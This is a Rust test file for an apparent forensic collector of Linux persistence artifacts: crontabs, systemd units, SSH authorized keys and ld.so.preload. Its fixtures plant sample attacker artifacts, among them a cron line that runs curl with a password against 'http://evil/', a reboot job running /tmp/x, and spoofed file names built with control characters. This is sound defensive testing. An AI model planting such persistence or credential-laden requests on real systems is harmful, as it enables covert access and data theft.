use super::*;
use crate::host::fixture::write;
use crate::source::file_set::MOST_ROWS;
use crate::source::recorded::Recorded;
use std::os::unix::fs::symlink;
use std::path::Path;

fn acquired(lay_out: impl FnOnce(&Path)) -> (Outcome, Recorded) {
    let tree = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(tree.path().join("proc")).unwrap();
    lay_out(tree.path());
    let mut evidence = Recorded::default();
    let outcome = Persistence::new(false).acquire(&Host::fixture(tree.path()).unwrap(), &mut evidence).unwrap();
    (outcome, evidence)
}

#[test]
fn crontabs_become_rows() {
    let (outcome, evidence) = acquired(|root| {
        write(root, "etc/crontab", "SHELL=/bin/sh\n# no\n17 * * * * root cd / && \x1b[2J\n");
        write(root, "etc/cron.d/evil", "@reboot nobody /tmp/x\n");
        write(root, "etc/cron.daily/script", "#!/bin/sh\n1 2 3 4 5 6\n");
        write(root, "var/spool/cron/crontabs/ann", "5 4 * * 0 curl -u u:hunter2@h --password hunter2 http://evil/\n");
    });
    assert_eq!((outcome, evidence.gaps.len()), (Outcome::ok(), 0));
    let rows = evidence.rows("crontab");
    assert_eq!(rows.len(), 4);
    assert_eq!(
        (&rows[0]["event"], &rows[0]["username"], &rows[0]["command"]),
        (&"@reboot".into(), &"nobody".into(), &"/tmp/x".into())
    );
    assert_eq!((&rows[1]["variable"], &rows[1]["value"], &rows[1]["line"]), (&"SHELL".into(), &"/bin/sh".into(), &1.into()));
    assert_eq!((&rows[2]["minute"], &rows[2]["command"]), (&"17".into(), &"cd / && \u{1b}[2J".into()));
    assert_eq!((&rows[3]["username"], &rows[3]["day_of_week"]), (&"ann".into(), &"0".into()));
    assert!(rows[3]["command"].as_str().unwrap().contains("--password xxxxxxx http://evil/"), "{}", rows[3]);
    assert!(!rows[3].to_string().contains("hunter2"));
    assert!(evidence.member("/etc/cron.daily/script").is_some());
}

#[test]
fn units_and_drop_ins_become_rows_and_masked_ones_are_links() {
    let (_, evidence) = acquired(|root| {
        write(root, "etc/systemd/system/a.service.d/x.conf", "[Service]\nExecStartPre=/tmp/\u{202e}x\nNice=1\n");
        write(root, "usr/lib/systemd/system/b.timer", "[Timer]\nOnCalendar=daily\n");
        symlink("/dev/null", root.join("etc/systemd/system/c.service")).unwrap();
        write(root, "usr/lib/systemd/system-generators/g", b"\x7fELF[a]\nExec=1\n");
    });
    let rows = evidence.rows("systemd_settings");
    assert_eq!(rows.len(), 2);
    assert_eq!((&rows[0]["id"], &rows[0]["name"]), (&"a.service".into(), &"ExecStartPre".into()));
    assert_eq!((&rows[1]["id"], &rows[1]["section"], &rows[1]["value"]), (&"b.timer".into(), &"Timer".into(), &"daily".into()));
    let files = evidence.rows("persistence_files");
    let masked = files.iter().find(|row| row["filename"] == "c.service").unwrap();
    assert_eq!(masked["symlink_target_path"], "/dev/null");
    assert_eq!(evidence.gaps, []);
}

#[test]
fn keys_have_fingerprints_and_owners() {
    let key = "AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl";
    let (_, evidence) = acquired(|root| {
        write(root, "etc/passwd", "ann:x:1000:1000::/home/ann:/bin/sh\n");
        write(root, "home/ann/.ssh/authorized_keys", format!("command=\"/bin/x\" ssh-ed25519 {key} a@b\nssh-rsa !!! c\n"));
        write(root, "home/ann/.ssh/id_ed25519", "-----BEGIN OPENSSH PRIVATE KEY-----\nQUJD\n-----END OPENSSH PRIVATE KEY-----\n");
    });
    let rows = evidence.rows("authorized_keys");
    assert_eq!(rows[0]["fingerprint"], "SHA256:+DiY3wvvV6TuJJhbpZisF/zLDA0zPMSvHdkr4UvCOqU");
    assert_eq!((&rows[0]["uid"], &rows[0]["username"], &rows[0]["comment"]), (&1000.into(), &"ann".into(), &"a@b".into()));
    assert_eq!((rows[1].get("fingerprint"), &rows[1]["status"]), (None, &"partial".into()));
    assert!(!evidence.member("/home/ann/.ssh/id_ed25519").unwrap().windows(4).any(|w| w == b"QUJD"));
}

#[test]
fn what_the_loader_is_told_to_load_is_kept_whatever_it_is_called() {
    let (_, evidence) = acquired(|root| {
        write(root, "etc/ld.so.preload", "/lib/\x1bx.so:/none.so # comment\n\nlibrelative.so\n");
        write(root, "lib/\x1bx.so", b"\x7fELF evil");
    });
    let rows = evidence.rows("preload_libraries");
    let shown: Vec<_> = rows.iter().map(|row| (row["library"].as_str().unwrap(), row["exists"].as_u64().unwrap())).collect();
    assert_eq!(shown, [("/lib/\u{1b}x.so", 1), ("/none.so", 0), ("librelative.so", 0)]);
    assert_eq!(evidence.member("/lib/\u{1b}x.so"), Some(&b"\x7fELF evil"[..]));
    let library = evidence.rows("persistence_files").last().unwrap();
    assert_eq!((&library["via"], &library["kind"]), (&"/etc/ld.so.preload".into(), &"loader".into()));
}

#[test]
fn rows_of_one_file_are_bounded_and_its_bytes_are_not() {
    let text = "* * * * * x\n".repeat(MOST_ROWS + 1);
    let (_, evidence) = acquired(|root| write(root, "var/spool/cron/root", &text));
    assert_eq!((evidence.rows("crontab").len(), evidence.gaps.len()), (MOST_ROWS, 1));
    assert_eq!(evidence.member("/var/spool/cron/root"), Some(text.as_bytes()));
}

#[test]
fn a_host_without_any_is_absent() {
    assert_eq!(acquired(|_| ()).0.status, Status::Absent);
}

#[test]
fn this_machine_has_some() {
    let mut evidence = Recorded::default();
    assert_eq!(Persistence::new(false).acquire(&Host::live().unwrap(), &mut evidence), Ok(Outcome::ok()));
    assert!(evidence.member("/etc/profile").is_some_and(|kept| !kept.is_empty()));
    assert!(evidence.gaps.iter().all(|gap| gap.refused), "{:?}", evidence.gaps);
}
